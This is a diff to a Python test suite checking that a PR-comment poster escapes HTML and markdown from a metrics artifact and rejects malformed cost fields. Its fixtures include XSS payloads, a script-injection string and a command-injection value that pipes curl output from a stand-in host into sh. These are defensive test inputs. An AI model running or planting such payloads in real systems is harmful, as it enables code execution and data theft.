@@ -45,10 +45,13 @@ def test_markdown_and_html_in_the_artifact_are_escaped(pr: Project, fake: FakeGi
     data["comparison"]["metrics"][0]["name"] = "<img src=x onerror=alert(1)> [click](https://evil.example) @org/team"
     data["comparison"]["baseline_note"] = "</details><script>steal()</script>"
     data["context"]["head_ref"] = "`$(curl evil.example | sh)`"
+    hostile = {"instance_type": "<img src=y>|x", "price_source": "[bill](https://evil.example)"}
+    data["comparison"]["head"]["cost"] = {**hostile, "instance_count": 1, "usd": 1.5, "billable_seconds": 60}
     path.write_text(json.dumps(data))
     assert post(pr, path, head)[0] == 0
     body = fake.pr_comments(REPO, 7)[0]["body"]
-    for raw in ("<script>", "<img", "[click](https", "@org", "</details><script>"):
+    assert "Training cost (estimate)" in body and "$1.50" in body and "&lt;img src=y&gt;\\|x" in body
+    for raw in ("<script>", "<img", "[click](https", "[bill](https", "@org", "</details><script>"):
         assert raw not in body
     assert "(\\`$(curl evil.example \\| sh)\\`)" in body  # an inert code-less span of text
     assert "&lt;img src=x onerror=alert(1)&gt; \\[click\\](https://evil.example) &#64;org/team" in body
@@ -66,6 +69,9 @@ def test_markdown_and_html_in_the_artifact_are_escaped(pr: Project, fake: FakeGi
         (lambda d: d["comparison"]["head"].update(sha="not-a-sha"), "comparison.head.sha is not valid"),
         (lambda d: d["context"].update(pr=-1), "context.pr must be a positive"),
         (lambda d: d["gate"]["results"][0].update(rule="x" * 5000), "at most 2000 characters"),
+        (lambda d: d["comparison"]["head"].update(cost={"usd": "$1e9"}), "comparison.head.cost.usd must be a number"),
+        (lambda d: d["comparison"]["head"].update(cost={"invoice": 1}), "comparison.head.cost has unexpected field"),
+        (lambda d: d["comparison"]["head"].update(cost={"spot": "yes"}), "comparison.head.cost.spot must be true"),
     ],
 )
 def test_malformed_artifacts_are_refused(pr: Project, fake: FakeGitHub, artifact, mutate, reason: str):
